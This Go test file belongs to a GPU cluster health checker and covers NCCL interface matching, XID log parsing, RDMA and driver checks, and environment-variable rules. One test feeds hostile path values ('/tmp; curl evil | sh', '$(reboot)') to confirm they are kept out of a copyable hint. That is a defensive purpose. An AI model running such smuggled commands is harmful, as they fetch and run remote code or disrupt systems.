package check

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/dsbuild/dsbuild/compat"
	"github.com/dsbuild/dsbuild/fleet/node"
	"github.com/dsbuild/dsbuild/fleet/node/agent"
	"github.com/dsbuild/dsbuild/fleet/report"
)

// The values of NCCL_SOCKET_IFNAME are those of NCCL's documentation (Environment Variables); gloo
// compares whole names.
func TestMatchesInterface(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		variable, value string
		chosen          []string
	}{
		{"NCCL_SOCKET_IFNAME", "eth", []string{"eth0", "eth1"}},
		{"NCCL_SOCKET_IFNAME", "eth1", []string{"eth1"}},
		{"NCCL_SOCKET_IFNAME", "eth1,ib", []string{"eth1", "ib0"}},
		{"NCCL_SOCKET_IFNAME", "=eth", nil},
		{"NCCL_SOCKET_IFNAME", "=eth0,ib0", []string{"eth0", "ib0"}},
		{"NCCL_SOCKET_IFNAME", "^eth", []string{"ib0", "docker0"}},
		{"NCCL_SOCKET_IFNAME", "^docker,lo", []string{"eth0", "eth1", "ib0"}},
		{"NCCL_SOCKET_IFNAME", "^=eth0", []string{"eth1", "ib0", "docker0"}},
		{"NCCL_SOCKET_IFNAME", "lo", []string{"lo"}},
		{"GLOO_SOCKET_IFNAME", "eth", nil},
		{"GLOO_SOCKET_IFNAME", "eth0", []string{"eth0"}},
		{"GLOO_SOCKET_IFNAME", "eth0,ib0", []string{"eth0", "ib0"}},
		{"GLOO_SOCKET_IFNAME", "=eth0", nil},
		{"GLOO_SOCKET_IFNAME", "^eth0", nil},
	} {
		var chosen []string
		for _, name := range []string{"lo", "eth0", "eth1", "ib0", "docker0"} {
			if matchesInterface(c.variable, c.value, name) {
				chosen = append(chosen, name)
			}
		}
		if !slices.Equal(chosen, c.chosen) {
			t.Errorf("%s=%s chooses %q, want %q", c.variable, c.value, chosen, c.chosen)
		}
	}
}

// A job uses IPv4 where a name has such an address, else IPv6; each address counts once.
func TestPreferIPv4(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ all, want []string }{
		{nil, nil},
		{[]string{"fe80::1", "10.0.0.2", "10.0.0.1", "10.0.0.2"}, []string{"10.0.0.1", "10.0.0.2"}},
		{[]string{"fd00::2", "fd00::1", "fd00::2"}, []string{"fd00::1", "fd00::2"}},
	} {
		before := slices.Clone(c.all)
		if got := preferIPv4(c.all); !slices.Equal(got, c.want) || !slices.Equal(before, c.all) {
			t.Errorf("%q: %q, want %q; the list is %q now", before, got, c.want, c.all)
		}
	}
	for address, want := range map[string]bool{"127.0.0.1": true, "127.0.1.1": true, "::1": true, "::ffff:127.0.0.1": true, "10.0.0.1": false, "localhost": false, "": false, "127.0.0.1.example": false} {
		if isLoopback(address) != want {
			t.Errorf("isLoopback(%q) is %v", address, !want)
		}
	}
}

// CUDA stops at the first device that it does not know, such as -1.
func TestVisibleGPUs(t *testing.T) {
	t.Parallel()
	for value, want := range map[string]int{"": -1, "0": 1, "0,1,2": 3, " 2 , 1": 2, "0,-1,1": 1, "-1": 0, "GPU-4f0e,GPU-81aa": 2, "MIG-7c": 1} {
		m := ready(1).members[0]
		(*m.survey.Variables.OK)["CUDA_VISIBLE_DEVICES"] = value
		if got := m.visibleGPUs(); got != want {
			t.Errorf("%q leaves %d, want %d", value, got, want)
		}
	}
	m := ready(1).members[0]
	if got := m.visibleGPUs(); got != -1 {
		t.Errorf("a variable that is not set leaves %d", got)
	}
	m.survey.Variables = part[map[string]string]{Error: "no permission"}
	if got := m.visibleGPUs(); got != -1 {
		t.Errorf("unknown variables leave %d", got)
	}
}

// A call's failure is a pair of an index and words; anything else is refused, also if a node sends it.
func TestUnheardIsAPair(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		`[2, "no answer"]`: true, `[2]`: false, `[2, "a", "b"]`: false, `["2", "a"]`: false, `[2.5, "a"]`: false, `[2, 3]`: false, `{"at": 2}`: false, `null`: false, `[99999999999999999999, "a"]`: false,
	} {
		var u failedCall
		if err := json.Unmarshal([]byte(text), &u); (err == nil) != want {
			t.Errorf("%s: %v", text, err)
		} else if want && (u.at != 2 || u.why != "no answer") {
			t.Errorf("%s: %+v", text, u)
		}
	}
}

// One node without an answer, without words or with words of its own has a reason in the report; a
// value has none.
func TestFailureReasons(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ sent, reason string }{
		{`{"ok": 1}`, ""},
		{`{"ok": null}`, "no answer"},
		{`{}`, "no answer"},
		{`{"hung": true}`, "timed out after 20s"},
		{`{"ok": 1, "hung": true}`, "timed out after 20s"},
		{`{"error": "Permission denied"}`, "node reported: Permission denied"},
	} {
		var p part[int]
		if err := json.Unmarshal([]byte(c.sent), &p); err != nil {
			t.Fatal(err)
		}
		if got := p.failureReason(); got != c.reason {
			t.Errorf("%s: %q, want %q", c.sent, got, c.reason)
		}
	}
}

// XIDs are counted by GPU and number. A line that only looks like one is left out, and a log that
// cannot be read is a warning, not silence.
func TestXIDs(t *testing.T) {
	t.Parallel()
	r := ready(3)
	lines := []string{
		"[  1.0] NVRM: Xid (PCI:0000:07:00): 79, GPU has fallen off the bus.",
		"[  2.0] NVRM: Xid (0000:07:00): 79, again, in the form of old drivers",
		"[  3.0] NVRM: Xid (PCI:0000:0f:00): 79, another GPU",
		"[  4.0] NVRM: Xid (PCI:0000:07:00): 13, Graphics Exception",
		"[  4.5] NVRM: Xid (PCI:0000:07:00): 63, pid='<unknown>', Row Remapper: New row marked for remapping",
		"[  4.6] NVRM: Xid (PCI:0000:07:00): 154, GPU recovery action changed from 0x1 (GPU Reset Required) to 0x0 (None)",
		"[  4.7] NVRM: Xid (PCI:0000:0f:00): 154, GPU recovery action changed from 0x0 (None) to 0x1 (GPU Reset Required)",
		"[  5.0] NVRM: Xid (PCI:0000:07:00): , no number",
		"[  6.0] a program wrote Xid: 79",
		"[  7.0] NVRM: Xid (PCI:0000:07:00): 99999999999999999999999, too large",
	}
	r.members[0].survey.Devices = map[string]part[programOutput]{"xid": known(programOutput{0, lines})}
	r.members[1].survey.Devices = map[string]part[programOutput]{"xid": known(programOutput{1, []string{"dmesg: read kernel buffer failed: Operation not permitted"}})}
	for _, m := range r.members {
		m.checkXIDs()
	}
	got := r.said()
	for _, want := range []string{
		"n1 error: GPU 0000:07:00: XID 79, 2 times since boot",
		"n1 error: GPU 0000:0f:00: XID 79, once since boot",
		"n1 error: GPU 0000:0f:00: XID 154, once since boot",
		"n1 warning: GPU 0000:07:00: XID 13, once since boot",
		"n1 warning: GPU 0000:07:00: XID 63, once since boot; NVIDIA's XID catalog asks for no action",
		"n1 warning: GPU 0000:07:00: XID 154, once since boot; NVIDIA's XID catalog asks for no action",
		"n2 warning: cannot read the kernel log: XID errors of the GPUs were not checked",
	} {
		if !strings.Contains(got+"\n", want+"\n") {
			t.Errorf("%q is missing in\n%s", want, got)
		}
	}
	if strings.Contains(got, "n3") || strings.Count(got, "\n") > 7 {
		t.Error(got)
	}
}

// A team's count of GPUs is compared with the inventory where that has slots, else with most nodes; GPUs
// that Slurm withholds are not missing.
func TestCountDevices(t *testing.T) {
	t.Parallel()
	r := ready(5)
	for i, m := range r.members {
		m.facts.GPUs = make([]node.GPU, []int{8, 8, 4, 0, 8}[i])
	}
	r.members[2].Host.Slots = 2
	r.members[3].facts.GPUsHidden = true
	r.members[4].Host.Slots = 8
	counts := groupByValue(r.members, func(m *member) (string, bool) { return "8", m.Host.Slots == 0 && !m.facts.GPUsHidden })
	for _, m := range r.members {
		m.countDevices(counts, 5)
	}
	want := "n3 warning: 4 GPUs, but slots is only 2 in the inventory\n" +
		"n4 warning: GPUs not checked: Slurm hides them from jobs that request none"
	if got := r.said(); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// What makes RDMA fail, and programs wait for operators, is named.
func TestLimitsAndLocks(t *testing.T) {
	r := ready(2)
	m := r.members[0]
	m.survey.Limits = known(limits{MemLock: 64 << 10, RDMA: []string{"mlx5_0"}})
	m.survey.Operators = known(operators{"/home/u/ext", "fuse.sshfs", []staleLock{{"/home/u/ext/fused_adam/lock", 7200}}})
	r.members[1].survey.Limits = known(limits{MemLock: -1, RDMA: []string{"mlx5_0"}})
	r.members[1].survey.Operators = known(operators{"/tmp/ext", "ext4", nil})
	for _, m := range r.members {
		m.checkMemLock()
		m.checkOperators(true)
	}
	want := strings.Join([]string{
		"n1 warning: locked memory is limited to 64.0 KiB, too little for RDMA (mlx5_0)",
		"n1 warning: torch compiles ops in /home/u/ext, which is on fuse.sshfs, where nodes wait for each other's locks",
		"n1 error: /home/u/ext/fused_adam/lock is a lock from 2h00m ago: programs that need this op wait for it forever",
	}, "\n")
	if got := r.said(); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// Kernels that Triton compiles on a shared disk, NCCL's configuration files, RDMA devices, drivers, MIG and contiguous
// memory: each wrong value is named with its node, and a healthy node has no finding.
func TestNodeRules(t *testing.T) {
	t.Parallel()
	tables, err := compat.NewTables()
	if err != nil {
		t.Fatal(err)
	}
	smi := func(lines ...string) part[programOutput] { return known(programOutput{Lines: lines}) }
	healthy := func(m *member) {
		m.facts.Torch, m.facts.TorchCUDA, m.facts.Driver, m.facts.GPUs = "2.10.0", "12.8", "580.95.05", make([]node.GPU, 1)
		m.survey.Limits = known(limits{MemLock: -1, RDMA: []string{"mlx5_0", "mlx5_1"}, CMA: 0})
		m.survey.Triton = known(cacheFolder{"/tmp/triton", "xfs"})
		m.survey.NCCLFiles = known([]setting{})
		m.survey.Devices = map[string]part[programOutput]{"mig": smi("0, Disabled"), "memory": smi("0, 81559")}
	}
	for name, c := range map[string]struct {
		wrong func(m *member) // of the second of four nodes
		want  string
	}{
		"healthy":           {func(*member) {}, ""},
		"Triton":            {func(m *member) { m.survey.Triton = known(cacheFolder{"/home/u/.triton/cache", "nfs4"}) }, "n2 warning: Triton compiles kernels in /home/u/.triton/cache, which is on nfs4, where ranks wait for each other's locks"},
		"no Triton":         {func(m *member) { m.survey.Triton = known(cacheFolder{"/home/u/.triton/cache", ""}) }, ""},
		"nccl.conf":         {func(m *member) { m.survey.NCCLFiles = known([]setting{{"/etc/nccl.conf", "NCCL_IB_HCA=mlx5_9"}}) }, "n2 error: /etc/nccl.conf sets NCCL_IB_HCA=mlx5_9, but 3 of 4 nodes: none"},
		"fewer devices":     {func(m *member) { m.survey.Limits.OK.RDMA = []string{"mlx5_0"} }, "n2 error: RDMA devices: mlx5_0, but 3 of 4 nodes have mlx5_0, mlx5_1; NCCL may hang"},
		"no device":         {func(m *member) { m.survey.Limits.OK.RDMA = nil }, "n2 error: RDMA devices: none, but 3 of 4 nodes have mlx5_0, mlx5_1; NCCL may hang"},
		"other names":       {func(m *member) { m.survey.Limits.OK.RDMA = []string{"mlx5_0", "rocep1"} }, "n2 warning: RDMA devices: mlx5_0, rocep1, but 3 of 4 nodes have mlx5_0, mlx5_1; NCCL may hang"},
		"old driver":        {func(m *member) { m.facts.Driver = "470.57.02" }, "n2 error: driver 470.57.02 is too old for CUDA 12.8 of torch 2.10.0"},
		"cuda-compat":       {func(m *member) { m.facts.Driver, m.survey.Devices["libcuda"] = "470.57.02", smi("12090") }, "n2 warning: driver 470.57.02 is too old for CUDA 12.8 of torch 2.10.0; cuda-compat replaces it (libcuda of CUDA 12.9), but only on data center GPUs"},
		"older cuda-compat": {func(m *member) { m.facts.Driver, m.survey.Devices["libcuda"] = "470.57.02", smi("11040") }, "n2 error: driver 470.57.02 is too old for CUDA 12.8 of torch 2.10.0"},
		"unknown driver":    {func(m *member) { m.facts.Driver = "" }, ""},
		"no GPU":            {func(m *member) { m.facts.Driver, m.facts.GPUs = "470.57.02", nil }, "n2 error: no GPU, but 3 of 4 nodes have 1"},
		"MIG":               {func(m *member) { m.survey.Devices["mig"] = smi("0, Disabled", "1, Enabled") }, "n2 warning: MIG divides GPUs: each process sees one instance, and NCCL cannot use two instances of one GPU"},
		"no CMA":            {func(m *member) { m.survey.Devices["memory"] = smi("0, [N/A]") }, "n2 warning: the kernel reserves no contiguous memory (CmaTotal is 0), so RDMA cannot register buffers in unified memory"},
		"CMA is not known":  {func(m *member) { m.survey.Devices["memory"], m.survey.Limits.OK.CMA = smi("0, [N/A]"), -1 }, ""},
	} {
		r := ready(4)
		r.opt.Tables = tables
		for _, m := range r.members {
			healthy(m)
		}
		c.wrong(r.members[1])
		r.checkVariables(t.Context())
		r.checkDevices(t.Context())
		r.checkDisks(t.Context())
		if got := r.said(); got != c.want {
			t.Errorf("%s: got\n%s\nwant\n%s", name, got, c.want)
		}
	}
	// A leftover on all nodes is named, too.
	r := ready(2)
	for _, m := range r.members {
		m.survey.NCCLFiles = known([]setting{{"/etc/nccl.conf", "NCCL_SOCKET_IFNAME=eth9"}})
	}
	r.checkVariables(t.Context())
	if want := "n1 warning: /etc/nccl.conf sets NCCL_SOCKET_IFNAME=eth9, for every job"; !strings.HasPrefix(r.said(), want+"\n") {
		t.Errorf("got\n%s\nwant\n%s", r.said(), want)
	}
}

// Each rule about a variable names it with its value. A harmless value has no finding.
func TestVariableRules(t *testing.T) {
	t.Parallel()
	bad := map[string]string{
		"MASTER_ADDR": "127.0.0.1", "RANK": "0", "LOCAL_RANK": "0", "GROUP_RANK": "1", "NODE_RANK": "1", "WORLD_SIZE": "8", "GLOO_SOCKET_IFNAME": "^docker", "CUDA_VISIBLE_DEVICES": "NoDevFiles",
		"NCCL_P2P_DISABLE": "1", "NCCL_SHM_DISABLE": "1", "NCCL_IB_DISABLE": "1", "NCCL_DEBUG": "INFO", "CUDA_LAUNCH_BLOCKING": "1", "TORCH_DISTRIBUTED_DEBUG": "DETAIL", "NCCL_ASYNC_ERROR_HANDLING": "1", "PYTHONHOME": "/opt/python", "LD_PRELOAD": "/lib/x.so",
	}
	good := map[string]string{
		"MASTER_ADDR": "10.0.0.1", "GLOO_SOCKET_IFNAME": "eth0", "CUDA_VISIBLE_DEVICES": "0,1", "NCCL_P2P_DISABLE": "0", "NCCL_SHM_DISABLE": "0", "NCCL_IB_DISABLE": "0", "NCCL_DEBUG": "WARN", "CUDA_LAUNCH_BLOCKING": "0", "TORCH_DISTRIBUTED_DEBUG": "OFF", "LD_PRELOAD": "",
	}
	for _, rule := range variableRules() {
		value, ok := bad[rule.name]
		if !ok {
			t.Errorf("%s has no bad value here", rule.name)
		}
		r := ready(1)
		(*r.members[0].survey.Variables.OK)[rule.name] = value
		r.checkVariables(t.Context())
		if want := "n1 " + string(rule.level) + ": " + rule.name + "=" + value + ": " + rule.why; r.said() != want {
			t.Errorf("got %q, want %q", r.said(), want)
		}
		if value, ok := good[rule.name]; ok {
			r = ready(1)
			(*r.members[0].survey.Variables.OK)[rule.name] = value
			if r.checkVariables(t.Context()); r.said() != "" {
				t.Errorf("%s=%s: %q", rule.name, value, r.said())
			}
		}
	}
}

// A node whose variables dsbuild could not read has an error, and the others are compared without it.
func TestUnreadableVariables(t *testing.T) {
	t.Parallel()
	r := ready(4)
	for _, m := range r.members[:3] {
		(*m.survey.Variables.OK)["NCCL_ALGO"] = "Ring"
	}
	r.members[3].survey.Variables = part[map[string]string]{Error: "Input/output error"}
	r.checkVariables(t.Context())
	if got, want := r.said(), "n4 error: cannot read environment variables: node reported: Input/output error"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// An interpreter that --python names is of the jobs, so it must have torch.
func TestHereNeedsTorch(t *testing.T) {
	t.Parallel()
	for python, want := range map[string]string{"/opt/env/bin/python": "n1 error: torch is not installed for /opt/env/bin/python", "": ""} {
		r := ready(1)
		r.opt.Here, r.members[0].Host.Python, r.members[0].facts.Torch = true, python, ""
		r.checkVersions(t.Context())
		if got := r.said(); got != want {
			t.Errorf("%q: got %q, want %q", python, got, want)
		}
	}
}

// The hint about a full folder holds its path only where that is a plain one: a user may copy it.
func TestRoomOfAHostilePath(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ path, try string }{
		{"/scratch/tmp", "free disk space: df -h /scratch/tmp"},
		{"/tmp; curl evil | sh", "free disk space: df -h FOLDER"},
		{"$(reboot)", "free disk space: df -h FOLDER"},
		{"/tmp\x1b[2J", "free disk space: df -h FOLDER"},
	} {
		m := ready(1).members[0]
		m.judgeRoom(Disk, "TMPDIR", room{Path: c.path, Free: 1, Inodes: -1}, 1<<30)
		if len(m.findings) != 1 || m.findings[0].Hint != c.try || strings.ContainsRune(m.findings[0].Text, '\x1b') {
			t.Errorf("%q: %+v", c.path, m.findings)
		}
	}
}

// Only nodes that still answer are compared: one that failed before has its own error.
func TestNodesThatFailedAreNotCompared(t *testing.T) {
	t.Parallel()
	r := ready(3)
	r.members[2].Status, r.members[2].agent = report.Failed, nil
	r.members[2].facts.Torch = "1.0"
	r.members[2].survey = survey{}
	r.checkVersions(t.Context())
	r.checkVariables(t.Context())
	r.checkNames(t.Context())
	r.checkDisks(t.Context())
	r.checkPaths(t.Context())
	if got := r.said(); got != "" {
		t.Error(got)
	}
	for _, m := range r.members {
		m.Status, m.agent = report.Failed, (*agent.Session)(nil)
	}
	r.checkVersions(t.Context())
	r.judgeInterfaces()
	if got := r.said(); got != "" {
		t.Error(got)
	}
}
